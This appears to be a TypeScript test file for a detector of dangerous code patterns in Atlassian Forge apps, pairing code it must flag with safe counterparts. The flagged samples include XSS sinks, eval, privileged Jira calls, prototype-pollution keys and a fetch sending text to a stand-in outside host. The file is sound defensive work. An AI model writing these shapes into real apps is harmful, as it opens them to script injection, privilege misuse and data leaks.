// Each rule about dangerous shapes of code meets samples that it has to report, among them those of Atlassian's own
// vulnerable example apps, and samples close to them that are right.

import { dangerousShapesIn } from '../../tools/supply-chain/dangerous-shapes';

const bad: readonly (readonly [rule: string, code: string])[] = [
  ['as the app', 'await api.asApp().requestJira(route`/rest/api/3/issue/${id}/comment`, { method: "POST" })'],
  ['as the app', 'asApp().requestJira(route`/rest/api/3/issue/${id}`, { ...init, method: "DELETE" })'],
  ['as the app', 'asApp().requestJira(route`/rest/api/3/user?accountId=${id}`)'],
  ['route template', 'asUser().requestJira("/rest/api/3/issue/" + key)'],
  ['route template', 'asUser().requestJira(path, init)'],
  ['trusts a route', 'const there = assumeTrustedRoute(payload.path)'],
  ['beside the door', 'const resolver = new Resolver(); resolver.define("getSecret", ({ payload }) => read(payload))'],
  ['as markup', 'const Text = () => <p dangerouslySetInnerHTML={{ __html: summary }} />'],
  ['as markup', 'element.innerHTML = issue.summary'],
  ['as markup', 'document.write(name)'],
  ['as markup', 'element.insertAdjacentHTML("beforeend", text)'],
  ['code from text', 'eval(text)'],
  ['code from text', 'new Function("a", text)'],
  ['code from text', 'setTimeout("run()", 10)'],
  ['"__proto__"', 'const counts = {}; counts[word] = 1'],
  ['"__proto__"', 'const counts: Record<string, number> = {}; for (const w of words) counts[w] = 1'],
  ['to the log', 'console.log(issue)'],
  ['to the log', 'console.error(error.message)'],
  ['away from Atlassian', 'fetch("https://elsewhere.example/?q=" + text)'],
  ['away from Atlassian', 'navigator.sendBeacon(url, body)'],
  ['away from Atlassian', 'new WebSocket(url)'],
  ['leaves the page', 'window.open(url)'],
  ['leaves the page', 'window.location.href = url'],
];

const good: readonly string[] = [
  'asApp().requestJira(route`/rest/api/3/issue/bulkfetch`, { ...init, method: "POST" })',
  'asUser().requestJira(route`/rest/api/3/issue/${id}/comment`, { method: "POST" })',
  'const Text = () => <p>{summary}</p>',
  'element.textContent = issue.summary',
  'setTimeout(run, 10)',
  'const counts = new Map(); counts.set(word, 1)',
  'const rows: number[] = []; rows[at] = 1',
  'const counts: Partial<Record<State, number>> = {}; counts[row.state] = 1',
  'fetch(fontUrl)',
  'router.open(url)',
];

it.each(bad)('code that %s is reported: %s', (rule, code) => {
  const found = dangerousShapesIn('src/sample.tsx', code);
  expect(found.filter((sentence) => sentence.includes(rule))).toHaveLength(1);
});

it.each(good)('%s is right', (code) => {
  expect(dangerousShapesIn('src/sample.tsx', code)).toEqual([]);
});
